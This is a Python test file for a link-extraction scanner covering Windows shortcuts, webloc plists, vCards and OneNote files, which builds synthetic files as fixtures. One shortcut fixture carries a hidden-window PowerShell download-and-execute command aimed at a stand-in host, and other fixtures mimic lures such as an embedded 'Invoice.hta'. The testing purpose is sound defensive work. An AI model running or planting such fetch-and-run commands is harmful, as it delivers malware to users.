"""Windows and macOS shortcuts, contacts and OneNote files."""

import plistlib
import struct

import uriinspector
from tests.for_each import for_each

LNK_HEAD = struct.pack("<I16s", 76, bytes.fromhex("0114020000000000c000000000000046"))


def sized(text: str) -> bytes:
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def shortcut(
    arguments: str = "", icon: str = "", share: str = "", block: str = "", targets: bytes = b""
) -> bytes:
    flags, body = 0x80, b""
    if targets:
        flags |= 1
        body += struct.pack("<H", len(targets)) + targets
    if share:
        flags |= 2
        network = struct.pack("<IIIII", 20 + len(share) + 1, 2, 20, 0, 0) + share.encode() + b"\0"
        size = 28 + len(network) + 4
        body += struct.pack("<IIIIIII", size, 28, 2, 0, 0, 28, 28 + len(network))
        body += network + b"x.y\0"
    for flag, text in ((0x20, arguments), (0x40, icon)):
        if text:
            flags |= flag
            body += sized(text)
    if block:
        wide = block.encode("utf-16-le").ljust(520, b"\0")
        body += struct.pack("<II", 788, 0xA0000001) + bytes(260) + wide
    return LNK_HEAD + struct.pack("<I", flags) + bytes(52) + body + bytes(4)


def linked(octets: bytes, name: str | None = None) -> list[tuple[str | None, str]]:
    document = uriinspector.scan(octets, name=name)
    for link in document.links:
        assert 0 <= link.source.start < link.source.end <= len(octets)
    return [(link.attribute, link.value) for link in document.links]


def test_lnk_targets_arguments_and_icon_are_read() -> None:
    octets = shortcut(
        "-w hidden iwr http://evil.test/x|iex", r"\\icon.test\s\a.ico", r"\\share.test\d"
    )
    document = uriinspector.scan(octets)
    assert document.kind == "lnk"
    assert linked(octets) == [
        ("target", r"\\share.test\d\x.y"),
        ("arguments", "http://evil.test/x"),
        ("icon", r"\\icon.test\s\a.ico"),
    ]
    (told,) = document.not_examined
    assert told.reason.endswith("-w hidden iwr http://evil.test/x|iex")
    source = document.links[0].source
    assert octets[source.start : source.end] == rb"\\share.test\d"


def test_truncated_lnk_is_read() -> None:
    octets = shortcut("http://evil.test/x", block="\\\\icon.test\\\U0001f511\\a.ico")
    every = linked(octets)
    assert every == [
        ("arguments", "http://evil.test/x"),
        ("target", "\\\\icon.test\\\U0001f511\\a.ico"),
    ]
    for end in range(len(LNK_HEAD), len(octets)):
        found = linked(octets[:end])  # every position is within the file
        assert len(found) <= 2
    # The end of the file also ends the list of blocks.
    assert linked(octets[:-4]) == every
    (_, last) = uriinspector.scan(octets).links
    assert octets[last.source.start : last.source.end].decode("utf-16-le") == every[1][1]


def test_addresses_in_lnk_blocks_and_targets_are_read() -> None:
    item = "https://item.test/a".encode("utf-16-le") + b"\0\0"
    assert linked(shortcut(block="https://block.test/", targets=item)) == [
        ("target", "https://block.test/"),
        ("target", "https://item.test/a"),
    ]
    assert linked(shortcut(icon=r"C:\windows\a.dll")) == []


@for_each("form", plistlib.FMT_XML, plistlib.FMT_BINARY)
def test_webloc_url_is_read(form: plistlib.PlistFormat) -> None:
    for url in ("http://a.test/?x=1&y=2", "http://a.test/" + "b" * 300, "http://ä.test/"):
        octets = plistlib.dumps({"URL": url, "Name": "no address"}, fmt=form)
        assert uriinspector.scan(octets).kind == "plist"
        assert linked(octets, "a.webloc") == [("url", url)]


def test_plist_entities_are_not_expanded() -> None:
    octets = (
        b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
        b"<plist><dict><key>URL</key><string>http://x.test/&b;</string></dict></plist>"
    )
    assert linked(octets, "a.webloc") == [("url", "http://x.test/&b;")]


def test_binary_plist_without_address_is_reported() -> None:
    octets = plistlib.dumps({"a": [1, "b", b"http://no.test/"]}, fmt=plistlib.FMT_BINARY)
    assert "no address found" in uriinspector.scan(octets).not_examined[0].reason
    assert uriinspector.scan(b"bplist00").not_examined
    assert uriinspector.scan(octets[:-8] + b"\xff" * 8).not_examined


def test_vcard_urls_are_read() -> None:
    octets = (
        b"BEGIN:VCARD\r\nVERSION:2.1\r\nURL;WORK:http\\://a.test/x\\,y\r\n"
        b"URL:http://long.test/aaaa\r\n bbbb\r\nNOTE;ENCODING=QUOTED-PRINTABLE:see http://q.te=\r\n"
        b"st/ now\r\nEND:VCARD\r\n"
    )
    document = uriinspector.scan(octets)
    assert document.kind == "contact"
    assert [link.value for link in document.links] == [
        "http://a.test/x,y", "http://long.test/aaaabbbb", "http://q.test/",
    ]  # fmt: skip


ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
EMBEDDED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")


def named(name: str) -> bytes:
    octets = name.encode("utf-16-le") + b"\0\0"
    return struct.pack("<I", len(octets)) + octets


def embedded(octets: bytes) -> bytes:
    return EMBEDDED + struct.pack("<QIQ", len(octets), 0, 0) + octets


def test_onenote_links_and_embedded_files_are_read() -> None:
    text = '\ufddfHYPERLINK "http://field.test/"Click here to see'.encode("utf-16-le")
    plain = "\0http://plain.test/x.\0".encode("utf-16-le")
    octets = ONE + bytes(64) + named("Invoice.hta") + text + bytes(4) + plain
    octets += embedded(b"<html><a href='http://inside.test/'>x</a>")
    document = uriinspector.scan(octets)
    assert document.kind == "onenote"
    assert [(link.part, link.attribute, link.value) for link in document.links] == [
        ("1.1", "href", "http://inside.test/"),
        ("1", "hyperlink", "http://field.test/"),
        ("1", None, "http://plain.test/x"),
    ]
    assert document.parts[1].name == "Invoice.hta"
    part = document.parts[1]
    assert octets[part.start : part.end] == b"<html><a href='http://inside.test/'>x</a>"
    two = uriinspector.scan(octets + embedded(b"MZ" + bytes(90)))
    assert [each.name for each in two.parts[1:]] == [None, None]
    assert len(uriinspector.scan(ONE + EMBEDDED + b"\xff" * 40).parts) == 1


def test_packaged_onenote_file_is_reported_as_not_examined() -> None:
    form = bytes.fromhex("2fe98d63d4a6c14b9a36b3fc2511a5b7")
    names = b'<x xmlns:a="http://ns.test/a" b="http://b.test/">'
    document = uriinspector.scan(ONE + bytes(32) + form + names)
    assert [link.value for link in document.links] == ["http://b.test/"]
    assert "of this form" in document.not_examined[0].reason
